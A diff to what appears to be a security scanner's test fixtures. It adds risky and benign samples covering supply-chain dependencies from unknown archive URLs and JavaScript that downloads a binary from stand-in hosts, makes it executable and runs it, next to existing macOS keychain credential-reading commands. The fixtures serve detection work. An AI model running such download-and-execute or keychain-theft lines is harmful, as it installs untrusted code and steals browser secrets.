@@ -596,6 +596,15 @@ RISKY = [
     ("r10-sh-edge-safe-storage-var", "scripts/k.sh", "key=$(security find-generic-password -wa 'Microsoft Edge Safe Storage')\n", "audit/credentials"),
     ("r10-py-keyring-chrome", "scripts/k.py", "import keyring\nk = keyring.get_password('Chrome Safe Storage', 'Chrome')\n", "audit/credentials"),
     ("r10-md-airport-wifi-password", "SKILL.md", "```bash\nsecurity find-generic-password -D \"AirPort network password\" -wa \"$SSID\"\n```\n", "audit/credentials"),
+    # Round 10 (lead): a package whose code comes from an archive URL on a stranger's host.
+    ("r10-json-dep-tarball-url", "package.json", "{\n  \"dependencies\": {\n    \"fast-csv-x\": \"https://pkgs.tools.example.net/fast-csv-x-2.1.0.tgz\"\n  }\n}\n", "audit/supply-chain"),
+    ("r10-req-at-url", "requirements.txt", "numpy==2.1.0\nfastparse @ https://dl.tools.example.net/fastparse-0.3.tar.gz\n", "audit/supply-chain"),
+    ("r10-toml-dep-at-url", "pyproject.toml", "[project]\nname = \"t\"\ndependencies = [\n  \"speedy[all] @ https://cdn.example.org/speedy-1.0-py3-none-any.whl\",\n]\n", "audit/supply-chain"),
+    ("r10-py-pip-argv-url", "scripts/s.py", "import subprocess, sys\nsubprocess.check_call([sys.executable, \"-m\", \"pip\", \"install\",\n    \"https://files.tools.example.org/p/lite-0.4.tar.gz\"])\n", "audit/supply-chain"),
+    # Round 10 (lead): a JS prebuilt downloader that saves a program executable and runs it.
+    ("r10-js-fetch-write-755-exec", "scripts/p.js", "const url = `https://cdn.tools.example.net/e-${process.arch}`;\nfetch(url).then(r => r.arrayBuffer()).then(b => {\n  fs.writeFileSync(dest, Buffer.from(b), { mode: 0o755 });\n  execFileSync(dest, ['--init']);\n});\n", "audit/download-exec"),
+    ("r10-js-https-get-chmod-spawn", "scripts/i.js", "https.get('https://203.0.113.5/bin/agent', (res) => res.pipe(fs.createWriteStream(bin)).on('finish', () => {\n  fs.chmodSync(bin, 0o755);\n  spawn(bin, [], { detached: true });\n}));\n", "audit/download-exec"),
+    ("r10-js-axios-chmod-x-execsync", "scripts/d.js", "const { data } = await axios.get('https://get.example.org/tool', { responseType: 'arraybuffer' });\nfs.writeFileSync(p, data);\nfs.chmodSync(p, '755');\nexecSync(p);\n", "audit/download-exec"),
 ]
 
 # Benign text that names risky tools: never high.
@@ -899,6 +908,10 @@ BENIGN = [
     ("ok10-csv-zwsp-cell", "data/w.csv", "id,title\n1,Long\u200bTitle\u200bHere\n2,a\u200bb\n"),
     # Round 10 (lead): the keychain's other-app entries named by a detection guide.
     ("ok10-md-detect-safe-storage", "SKILL.md", "Alert when a process runs `security find-generic-password -wa \"Chrome Safe Storage\"`: macOS stealers do this first.\n"),
+    # Round 10 (lead): archives from the registries and release hosts, and prebuilt binaries from GitHub releases.
+    ("ok10-json-dep-github-tarball", "package.json", "{\n  \"dependencies\": {\n    \"x\": \"https://codeload.github.com/o/x/tar.gz/v1.2.0\",\n    \"y\": \"https://registry.npmjs.org/y/-/y-1.0.0.tgz\"\n  }\n}\n"),
+    ("ok10-req-torch-wheel", "requirements.txt", "torch @ https://download.pytorch.org/whl/cu121/torch-2.4.0%2Bcu121-cp311-cp311-linux_x86_64.whl\n"),
+    ("ok10-js-prebuilt-github-release", "scripts/p.js", "const url = `https://github.com/o/t/releases/download/v1.0.0/t-${process.platform}`;\nfetch(url).then(r => r.arrayBuffer()).then(b => {\n  fs.writeFileSync(dest, Buffer.from(b), { mode: 0o755 });\n  execFileSync(dest, ['--version']);\n});\n"),
 ]
 
 
